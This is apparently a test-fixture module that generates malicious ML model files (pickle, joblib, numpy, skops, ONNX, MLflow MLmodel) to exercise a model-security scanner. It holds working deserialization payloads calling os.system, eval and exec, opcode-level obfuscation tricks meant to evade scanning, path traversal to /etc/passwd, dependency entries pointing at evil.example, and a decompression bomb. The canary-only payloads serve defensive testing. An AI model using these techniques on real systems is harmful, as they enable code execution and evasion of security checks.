"""Hostile artifacts, made in a scratch folder at run time. Nothing here is ever loaded.

Each would create the file `canary` if it were; the tests look whether it exists.
"""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import zipfile
import zlib

import joblib
import numpy as np
import yaml

STOP = b"."


class Calls:
    """Pickled as a call of a function."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def text(word):
    return b"X" + struct.pack("<I", len(word)) + word.encode()


def short(word):
    return b"\x8c" + bytes([len(word)]) + word.encode()


def system(canary):
    import os

    return Calls(os.system, f"touch {canary}")


def hidden(module, name, argument, how):
    """A call of module.name(argument), its name put together in an unusual way."""
    call = text(argument) + b"\x85R" + STOP
    named = _named(module, name, argument, call)
    return (named | _put_together(module, name, argument, call))[how]


def _named(module, name, argument, call):
    return {
        "global": b"c" + f"{module}\n{name}\n".encode() + call,
        "inst": b"(" + text(argument) + b"i" + f"{module}\n{name}\n".encode() + STOP,
        "obj": b"(c" + f"{module}\n{name}\n".encode() + text(argument) + b"o" + STOP,
        "stack-global": b"\x80\x04" + short(module) + short(name) + b"\x93" + call,
        "memo": b"\x80\x04"
        + short(module)
        + b"\x940"
        + short(name)
        + b"\x940h\x00h\x01\x93"
        + call,
        "dup": b"\x80\x04"
        + short(module)
        + b"2\x940h\x00"
        + b"0"
        + b"h\x00"
        + short(name)
        + b"\x93"
        + call,
        "binunicode8": b"\x80\x04\x8d"
        + struct.pack("<Q", len(module))
        + module.encode()
        + short(name)
        + b"\x93"
        + call,
    }


def _put_together(module, name, argument, call):
    return {
        "old-name": b"c__builtin__\neval\n" + text(argument) + b"\x85R" + STOP,
        "newobj": b"\x80\x02c"
        + f"{module}\n{name}\n".encode()
        + text(argument)
        + b"\x85\x81"
        + STOP,
        "dotted": b"\x80\x04"
        + short("sklearn.pipeline")
        + short("Pipeline.__init__.__globals__")
        + b"\x93"
        + STOP,
        "ext": b"\x80\x02\x82\x01)R" + STOP,
        "persistent": b"\x80\x02" + text("token") + b"Q" + STOP,
        "before-a-break": b"c"
        + f"{module}\n{name}\n".encode()
        + text(argument)
        + b"\x85R"
        + b"\xff",
        "computed": b"\x80\x04c"
        b"builtins\nstr\n" + text(module) + b"\x85R" + short(name) + b"\x93" + call,
        "patched-class": b"\x80\x02csklearn.pipeline\nPipeline\nN}"
        + text("predict")
        + b"cnumpy\nlog1p\ns\x86b"
        + STOP,
    }


HIDDEN = (
    *("global", "inst", "obj", "stack-global", "memo", "dup", "binunicode8", "old-name", "newobj"),
    *("dotted", "ext", "persistent", "before-a-break", "computed", "patched-class"),
)


def pickles(canary):
    """Hostile bytes by name: each is a whole file that somebody might unpickle."""
    import builtins
    import importlib
    import operator
    import timeit
    from functools import partial

    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    touch = f"open({str(canary)!r}, 'w').close()"
    evil = pickle.dumps(system(canary))
    found = {f"opcodes-{how}": hidden("posix", "system", f"touch {canary}", how) for how in HIDDEN}
    found |= {f"protocol-{p}": pickle.dumps(system(canary), p) for p in range(6)}
    found |= {
        "eval-in-pipeline": pickle.dumps(
            Pipeline([("f", FunctionTransformer(kw_args={"x": Calls(eval, touch)}))])
        ),
        "timeit": pickle.dumps(Calls(timeit.timeit, touch)),
        "getattr": pickle.dumps(Calls(getattr, Calls(importlib.import_module, "os"), "system")),
        "methodcaller": pickle.dumps(Calls(operator.methodcaller, "system", f"touch {canary}")),
        "attrgetter": pickle.dumps(Calls(operator.attrgetter, "__globals__")),
        "partial": pickle.dumps(partial(builtins.exec, touch)),
        "trailing": pickle.dumps([1, 2]) + evil,
        "gzip": gzip.compress(evil),
        "bz2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "lzma": lzma.compress(evil, format=lzma.FORMAT_ALONE),
        "zlib": zlib.compress(evil),
        "gzip-in-bz2": bz2.compress(gzip.compress(evil)),
        "pickle-before-zip": evil + zipped({"notes.txt": b"hello"}),
        "zip-in-zip": zipped({"inner.zip": zipped({"weights.bin": evil})}),
        "torch-zip": zipped({"archive/data.pkl": evil, "archive/version": b"3\n"}),
        "npz": _npz(system(canary)),
        "npy": _npy(system(canary)),
        "distribution": _distribution(touch),
        "cloudpickled-function": _cloudpickled(),
        "numpy-runstring": b"cnumpy.testing._private.utils\nrunstring\n" + text(touch) + b"}\x86R.",
        "numpy-memmap": b"cnumpy\nmemmap\n" + text(str(canary)) + b"\x85R.",
        "codec": b"c_codecs\nencode\n" + text("x") + text("bz2_codec") + b"\x86R.",
        "joblib-frame": _joblib_frame(canary),
        "plain-in-joblib-array": _in_array(canary),
        "false-objects": _false_objects(),
    }
    return found | _of_joblib(canary)


def _of_joblib(canary):
    found = {}
    for kind in ("zlib", "gzip", "bz2", "xz", "lzma"):
        stream = io.BytesIO()
        joblib.dump([np.arange(5), system(canary)], stream, compress=(kind, 3))
        found[f"joblib-{kind}"] = stream.getvalue()
    stream = io.BytesIO()
    joblib.dump({"w": np.arange(500.0), "o": np.array([system(canary)], dtype=object)}, stream)
    return found | {"joblib-object-array": stream.getvalue()}


def zipped(members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _npy(thing):
    stream = io.BytesIO()
    np.save(stream, np.array([thing], dtype=object), allow_pickle=True)
    return stream.getvalue()


def _npz(thing):
    stream = io.BytesIO()
    np.savez_compressed(stream, a=np.arange(3), b=np.array([thing], dtype=object))
    return stream.getvalue()


def _distribution(touch):
    """scipy's distributions run a template out of their own state when they are unpickled."""
    return (
        b"\x80\x02cscipy.stats._continuous_distns\nuniform_gen\n)\x81}"
        + text("_parse_arg_template")
        + text(touch)
        + b"sb."
    )


def _cloudpickled():
    import cloudpickle

    return cloudpickle.dumps(lambda rows: rows)


def _wrapper(aligned):
    """The instructions of joblib's array of ten bytes, up to and with its BUILD."""
    state = {"shape": (40,), "order": "C", "allow_mmap": False}
    body = pickle.dumps(state, 2)[2:-1]  # without PROTO and STOP
    dtype = b"cnumpy\ndtype\n" + text("u1") + b"\x85R"
    more = (
        text("dtype")
        + dtype
        + b"s"
        + (text("numpy_array_alignment_bytes") + b"K\x10s" if aligned else b"")
    )
    return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + body + more + b"b"


def _joblib_frame(canary):
    """Inside a frame joblib goes on with the frame; a scan that skips the array jumps over it."""
    evil = hidden("posix", "system", f"touch {canary}", "global")[:-1] + STOP
    frame = _wrapper(aligned=False) + b"0" + evil
    frame += b"N" * max(0, 60 - len(frame))
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + b"\x00" * 40


def _in_array(canary):
    """joblib reads these bytes as numbers; plain pickle, which MLflow uses, runs them."""
    evil = hidden("posix", "system", "touch x", "global")
    return b"\x80\x02" + _wrapper(aligned=False) + evil.ljust(40, b"N") + STOP


def _false_objects():
    """A numpy type that says its items are no objects, and has one: numbers become addresses."""
    inner = b"cnumpy\ndtype\n" + text("O8") + b"\x85R"
    fields = b"}" + text("o") + inner + b"K\x00\x86s"
    state = b"(K\x03" + text("|") + b"N" + text("o") + b"\x85" + fields + b"K\x08K\x01K\x00t"
    return b"\x80\x02cnumpy\ndtype\n" + text("V8") + b"\x85R" + state + b"b."


def change(model, flavor="python_function", **values):
    """Set keys of a flavor in the model's MLmodel."""
    path = model / "MLmodel"
    content = yaml.safe_load(path.read_text())
    content["flavors"].setdefault(flavor, {}).update(values)
    path.write_text(yaml.safe_dump(content))


def skops_of(module, name, loader="TypeNode"):
    node = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1}
    return zipped(
        {"schema.json": json.dumps({**node, "protocol": 2, "_skops_version": "0"}).encode()}
    )


def _put(name, content):
    def put(model, canary):
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        (model / name).write_bytes(content if isinstance(content, bytes) else content(canary))

    return put


def _skops(*node, trusted=()):
    def put(model, canary):
        (model / "model.skops").write_bytes(skops_of(*node))
        keys = {"pickled_model": "model.skops", "serialization_format": "skops"}
        change(model, "sklearn", **keys, skops_trusted_types=list(trusted))

    return put


def _keys(flavor, **values):
    return lambda model, canary: change(model, flavor, **values)


def _link(model, canary):
    (model / "notes.txt").symlink_to("/etc/hostname")


def _inner(model, canary):
    (model / "inner").mkdir()
    (model / "inner" / "MLmodel").write_bytes((model / "MLmodel").read_bytes())
    change(model / "inner", "sklearn", skops_trusted_types=["posix.system"])


def _onnx(model, canary):
    import onnx
    from onnx import helper

    info = helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1])
    graph = helper.make_graph(
        [helper.make_node("Own", ["x"], ["x"], domain="evil.ops")], "g", [info], [info]
    )
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid("evil.ops", 1)])
    (model / "model.onnx").write_bytes(made.SerializeToString())
    change(model, "onnx", data="model.onnx")


def _onnx_data(model, canary):
    import onnx
    from onnx import helper

    tensor = onnx.TensorProto(name="w", data_type=1, dims=[1], data_location=1)
    tensor.external_data.add(key="location", value="../../etc/passwd")
    graph = helper.make_graph([], "g", [], [], [tensor])
    (model / "model.onnx").write_bytes(helper.make_model(graph).SerializeToString())
    change(model, "onnx", data="model.onnx")


def models():
    """Hostile changes to a benign model, by name: `change(model, canary)`."""
    return {
        "skops-trusts-system": _skops("posix", "system", trusted=["posix.system"]),
        "skops-hidden-system": _skops("posix", "system", "FunctionNode"),
        "skops-operator": _skops("operator", "methodcaller", "OperatorFuncNode"),
        "skops-method": _skops("sklearn.pipeline", "Pipeline", "MethodNode"),
        "own-loader": _keys("python_function", loader_module="evilmod"),
        "code-model-loader": _keys(
            "python_function", loader_module="mlflow.pyfunc.loaders.code_model"
        ),
        "code-folder": _keys("python_function", code="code"),
        "model-from-code": _keys("python_function", model_code_path="model.py"),
        "unknown-flavor": _keys("keras", data="data"),
        "unknown-key": _keys("python_function", hook="x"),
        "model-class": _keys("xgboost", model_class="os.system"),
        "predict-fn": _keys("python_function", predict_fn="__reduce__"),
        "path-out": _keys("python_function", data="../other"),
        "artifact-out": _keys(
            "python_function", artifacts={"a": {"path": "/etc/passwd", "uri": "x"}}
        ),
        "nested-mlmodel": _inner,
        "link": _link,
        "python-file": _put("helpers.py", b"import os\n"),
        "renamed-program": _put("toy.txt", b"\x7fELF" + b"\x00" * 60),
        "shell-script": _put("run", b"#!/bin/sh\n"),
        "unaccounted": _put("blob.bin", b"\x00\x01"),
        "look-alike-name": _put("\uff2d\uff2cmodel", b"flavors: {}"),
        "tar": _put("a.tar", b"a".ljust(257, b"\x00") + b"ustar" + b"\x00" * 250),
        "7z": _put("a.bin", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40),
        "bomb": _put("a.gz", lambda _: gzip.compress(bytes(100 * 1024 * 1024), 9)),
        "deep": _put("a.gz", lambda canary: _deep(pickle.dumps(system(canary)))),
        "requirement-url": _put("requirements.txt", b"mlflow\nhttps://evil.example/p.whl\n"),
        "requirement-vcs": _put("requirements.txt", b"git+https://evil.example/p.git\n"),
        "requirement-at": _put("requirements.txt", b"numpy @ file:///tmp/x\n"),
        "requirement-path": _put("requirements.txt", b"./wheels/p.whl\n"),
        "requirement-index": _put(
            "requirements.txt", b"--extra-index-url https://evil.example\nnumpy\n"
        ),
        "conda-pip-url": _put(
            "conda.yaml", b"dependencies:\n- python\n- pip:\n  - git+https://e.example/p\n"
        ),
        "conda-channel": _put(
            "conda.yaml", b"channels: [https://evil.example]\ndependencies: [python]\n"
        ),
        "onnx-domain": _onnx,
        "onnx-data-out": _onnx_data,
    }


def _deep(content):
    for _ in range(8):
        content = gzip.compress(content)
    return content
